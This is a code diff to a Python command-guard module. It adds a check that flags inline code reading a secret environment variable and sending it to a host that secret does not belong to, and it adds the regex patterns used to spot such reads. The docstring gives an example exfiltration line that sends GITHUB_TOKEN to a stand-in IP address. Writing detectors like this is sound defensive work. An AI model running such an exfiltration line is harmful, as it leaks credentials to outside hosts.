@@ -9,12 +9,14 @@ may go to this machine, the owner's own networks and the vetted registries and f
 
 from __future__ import annotations
 
+import re
+
 from clawkeep.guards.command_guard._net_reach import loopback_only, unvetted_source
 from clawkeep.guards.command_guard._net_tables import OWN_SUFFIXES
 from clawkeep.guards.command_guard._walk import Cmd, Walker
-from clawkeep.guards.command_guard._word_types import UNKNOWN
+from clawkeep.guards.command_guard._word_types import SECRET_VAR, UNKNOWN
 
-__all__ = ["secret_sent"]
+__all__ = ["secret_in_code", "secret_sent"]
 
 # The first word of a variable's name that says nothing of whose secret it is.
 _GENERIC = frozenset(
@@ -98,5 +100,32 @@ def secret_sent(cmd: Cmd, w: Walker, urls: list[str]) -> bool:
             if not _belongs(name, url):
                 # exfiltration: a secret of this environment sent to a host not its own
                 w.flag("exfiltration", f"{cmd.name} sends ${name} to {url}")
+                return True
+    return False
+
+
+# One variable of the environment read by name in inline code: os.environ["X"],
+# os.environ.get("X"), os.getenv("X"), process.env.X, process.env["X"], ENV["X"], $ENV{X},
+# getenv("X"), System.getenv("X"), Sys.getenv("X"), Deno.env.get("X").
+_ENV_NAME = re.compile(
+    r"(?:environ\s*(?:\[|\.get\s*\()|getenv\s*\(|env\.get\s*\(|\bENV\s*\[|\$ENV\s*\{"
+    r"|ENV\.fetch\s*\()\s*[\"']?([A-Za-z_]\w*)|process\.env\s*(?:\.\s*|\[\s*[\"'])([A-Za-z_]\w*)"
+)
+_LITERAL_URL = re.compile(r"\bhttps?://[^\s\"'`]+")
+
+
+def secret_in_code(lang: str, code: str, w: Walker) -> bool:
+    """Flag inline code that reads a secret of the environment by name and names a URL of
+    a host that secret does not belong to (``urlopen("http://203.0.113.7/?" +
+    os.environ["GITHUB_TOKEN"])``). A URL the code only learns at run time is judged as
+    the shell rule judges ``curl "$API_URL"``: not refused."""
+    names = [a or b for a, b in _ENV_NAME.findall(code) if SECRET_VAR.search(a or b)]
+    if not names:
+        return False
+    for url in _LITERAL_URL.findall(code):
+        for name in names:
+            if not _belongs(name, url):
+                # exfiltration: a secret of this environment sent to a host not its own
+                w.flag("exfiltration", f"{lang} code sends ${name} to {url}")
                 return True
     return False
